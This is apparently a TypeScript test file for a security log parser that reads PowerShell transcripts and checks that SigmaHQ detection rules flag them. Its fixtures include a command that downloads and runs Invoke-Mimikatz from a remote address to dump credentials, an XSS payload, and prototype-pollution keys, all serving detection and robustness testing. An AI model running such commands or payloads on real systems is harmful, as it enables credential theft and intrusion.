import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { createDetector, loadRuleSet } from '../../src/detect/index.ts';
import { defaultResolver } from '../../src/detect/mapping/index.ts';
import { sharedPath } from '../compat/shared-data.ts';
import { eventsOf, read, selected } from '../detect/mapping/helpers.ts';
import { FORMAT_FIXTURES, fixtureEvents } from '../helpers/format.ts';
import { assertNoPollution, assertSoundEvent, readAs } from '../helpers/hostile.ts';
import { ingestTwice } from '../helpers/pack-alerts.ts';
import { tempDirs } from '../helpers/temp.ts';

/** PowerShell transcripts: the session and each command typed, read by the script block rules. */

const dirs = tempDirs('powershell-transcript');
const STARS = '**********************';

function transcript(start: string, lines: readonly string[], edition = 'Windows PowerShell'): string {
  return [STARS, `${edition} transcript start`, `Start time: ${start}`, 'Username: CORP\\bob', 'Machine: WS02 (Microsoft Windows NT 10.0.22631.0)', 'Host Application: pwsh.exe', 'Process ID: 77', STARS, ...lines, STARS, `${edition} transcript end`, 'End time: 20241123120000', STARS].join('\n');
}

void describe('PowerShell transcripts', () => {
  void it('reads the session and each command with its time, prompt path and output', async () => {
    const events = await fixtureEvents('powershell-transcript', 'input.txt');
    assert.deepEqual(
      events.map((e) => [e.event.action, e.message ?? null, e.user?.name, e.user?.domain, e.host?.name, e.process?.pid, e['@timestamp'], e.log.line]),
      [
        ['powershell-transcript-start', null, 'alice', 'CORP', 'WS01', 4242, '2024-11-23T10:00:00.000Z', 2],
        ['powershell-command', 'whoami /priv', 'alice', 'CORP', 'WS01', 4242, '2024-11-23T10:00:05.000Z', 17],
        ['powershell-command', "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds", 'alice', 'CORP', 'WS01', 4242, '2024-11-23T10:00:10.000Z', 25],
        ['powershell-command', 'Get-ChildItem |\nWhere-Object Length -gt 1mb', 'alice', 'CORP', 'WS01', 4242, '2024-11-23T10:00:20.000Z', 29],
      ],
    );
    assert.match(events[1]?.labels?.['powershell.output'] ?? '', /SeDebugPrivilege/);
    assert.equal(events[0]?.process?.command_line, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden');
    const logsource = { product: 'windows', category: 'ps_script' };
    assert.ok(selected(events[2]!, logsource) && !selected(events[0], logsource), 'commands are script blocks; the session start is not');
    assert.equal(read(events[2]!, logsource, 'ScriptBlockText'), events[2]?.message);
  });

  void it('reads transcripts appended one after the other, PowerShell 7 ones, and commands without invocation headers', async () => {
    const text = `${transcript('20241123110000', ['PS C:\\> hostname', 'WS02', 'PS C:\\> ipconfig /all'])}\n${transcript('20241123113000', ['PS>Get-Process'], 'PowerShell')}\n`;
    const events = await eventsOf('PowerShell_transcript.WS02.abc.20241123110000.txt', text);
    assert.deepEqual(events.map((e) => [e.event.action, e.message ?? null, e['@timestamp'], e.labels?.['powershell.time'] ?? null]), [
      ['powershell-transcript-start', null, '2024-11-23T11:00:00.000Z', null],
      ['powershell-command', 'hostname', '2024-11-23T11:00:00.000Z', 'the session start (no invocation header)'],
      ['powershell-command', 'ipconfig /all', '2024-11-23T11:00:00.000Z', 'the session start (no invocation header)'],
      ['powershell-transcript-start', null, '2024-11-23T11:30:00.000Z', null],
      ['powershell-command', 'Get-Process', '2024-11-23T11:30:00.000Z', 'the session start (no invocation header)'],
    ]);
  });

  void it("raises SigmaHQ's script block rules from a transcript, and re-ingesting adds nothing", async (t) => {
    const file = join(FORMAT_FIXTURES, 'powershell-transcript', 'input.txt');
    assert.deepEqual(await ingestTwice(dirs.fresh(), [file]), [4, 0]);
    const root = sharedPath(t, 'sigma', 'rules', 'windows', 'powershell', 'powershell_script');
    if (root === undefined) return;
    const rules = readdirSync(root).filter((f) => f.endsWith('.yml')).map((f) => ({ path: join(root, f), origin: 'extra' as const }));
    const detector = createDetector(loadRuleSet(rules, defaultResolver), defaultResolver);
    const events = await fixtureEvents('powershell-transcript', 'input.txt');
    const alerts = [...events.flatMap((e) => detector.push(e)), ...detector.flush()];
    const titles = [...new Set(alerts.map((a) => a.rule.title))].sort();
    assert.ok(titles.includes('Malicious PowerShell Commandlets - ScriptBlock'), titles.join(' | '));
    assert.ok(alerts.every((a) => a.event_ids.every((id) => id === events[2]?.id)), 'only the Mimikatz command raises them');
  });

  void it('survives hostile transcripts: markup, prototype-named header keys, endless output, lines outside any transcript', async () => {
    const text = [
      'stray text',
      transcript('99999999999999', ['PS C:\\x> <img src=x onerror=alert(1)><script>', ...Array.from({ length: 5000 }, () => 'o'.repeat(100)), '>> not a continuation once output began']),
      STARS, 'Windows PowerShell transcript start', '__proto__: polluted', 'constructor: x', 'Username: <b>', 'Start time: 2024',
    ].join('\n');
    const { events, errors } = await readAs('powershell-transcript', `${text}\n`);
    assert.deepEqual(errors.map((e) => e.line), [1], 'the stray line is reported');
    for (const event of events) assertSoundEvent(event);
    const command = events.find((e) => e.event.action === 'powershell-command');
    assert.equal(command?.message, '<img src=x onerror=alert(1)><script>', 'kept as text: the edges escape it');
    assert.ok((command?.labels?.['powershell.output']?.length ?? 0) <= 2048, 'the output label is capped');
    assert.equal(events.at(-1)?.event.action, 'powershell-transcript-start', 'a header cut short is still the session');
    assertNoPollution();
  });
});
